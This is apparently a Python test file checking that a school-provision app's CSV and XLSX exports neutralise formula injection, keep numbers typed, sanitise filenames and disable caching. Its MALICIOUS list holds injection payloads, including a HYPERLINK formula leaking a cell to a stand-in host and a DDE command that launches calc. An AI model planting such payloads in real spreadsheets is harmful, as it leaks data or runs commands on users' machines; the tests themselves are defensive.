"""CSV and XLSX downloads: no cell can run as a formula, numbers stay numbers, files are never cached."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from waymark.core.spreadsheets import (
    FORMULA_TRIGGERS,
    Sheet,
    csv_bytes,
    csv_response,
    safe_cell,
    safe_filename,
    xlsx_bytes,
    xlsx_response,
)

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_text_that_starts_like_a_formula_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [Decimal("-12.50"), -3, 2.5, 0, datetime.date(2027, 3, 4), datetime.datetime(2027, 3, 4, 9, 15)],
)
def test_numbers_and_dates_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_plain_text_none_and_booleans():
    assert safe_cell("Zephyrine Quartermaine") == "Zephyrine Quartermaine"
    assert safe_cell("Reading 2 = good") == "Reading 2 = good"  # only the first character matters
    assert safe_cell(None) == ""
    assert safe_cell(True) == "Yes" and safe_cell(False) == "No"


@settings(max_examples=50, deadline=None)
@given(st.text(min_size=1))
def test_no_text_cell_ever_starts_with_a_formula_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)


def read_csv(body):
    assert body.startswith("\ufeff".encode())  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_cells_are_neutralised_and_numbers_kept():
    body = csv_bytes(["Name", "=Total"], [[text, Decimal("-5.25")] for text in MALICIOUS] + [["Zoë Ørsted", 7]])
    rows = read_csv(body)
    assert rows[0] == ["Name", "'=Total"]
    for row, text in zip(rows[1:], MALICIOUS, strict=False):
        assert row[0] == "'" + text
        assert row[1] == "-5.25"  # a real number, not text with a quote
    assert rows[-1] == ["Zoë Ørsted", "7"]


def test_csv_response_is_a_never_cached_attachment():
    response = csv_response("provision map/pupils.csv", ["A"], [["=1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="provision-map-pupils.csv"'
    assert "no-store" in response["Cache-Control"]
    assert read_csv(response.content) == [["A"], ["'=1"]]


def test_xlsx_holds_no_formula_and_keeps_numbers():
    rows = [[text, Decimal("1234.5"), datetime.date(2027, 3, 4)] for text in MALICIOUS]
    body = xlsx_bytes([Sheet("Pupils: [all]", ["Name", "Cost", "Date"], rows, money_columns=frozenset({1}))])
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.worksheets[0]
    assert sheet.title == "Pupils   all"  # characters a sheet name cannot hold are replaced
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    for row, text in zip(sheet.iter_rows(min_row=2), MALICIOUS, strict=False):
        assert row[0].value == "'" + text and row[0].data_type == "s"
        assert row[1].value == 1234.5 and row[1].data_type == "n"
        assert row[1].number_format == '"£"#,##0.00'
        assert row[2].value == datetime.datetime(2027, 3, 4)


def test_xlsx_drops_characters_xml_cannot_hold_and_names_sheets_apart():
    body = xlsx_bytes([("Same", ["A"], [["bell\x07 here"]]), ("same", ["B"], [[1]])])
    workbook = load_workbook(io.BytesIO(body))
    assert [sheet.title for sheet in workbook.worksheets] == ["Same", "same (2)"]
    assert workbook.worksheets[0]["A2"].value == "bell here"


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20), min_size=1, max_size=5))
def test_no_xlsx_cell_is_ever_a_formula(texts):
    body = xlsx_bytes([("Sheet", ["Header"], [[text] for text in texts])])
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_response_headers():
    response = xlsx_response("map.xlsx", [("A", ["x"], [[1]])])
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="map.xlsx"'
    assert "no-store" in response["Cache-Control"]


def test_safe_filename():
    assert safe_filename('a"b\r\nc.csv') == "a-b-c.csv"
    assert safe_filename("../..") == "download"
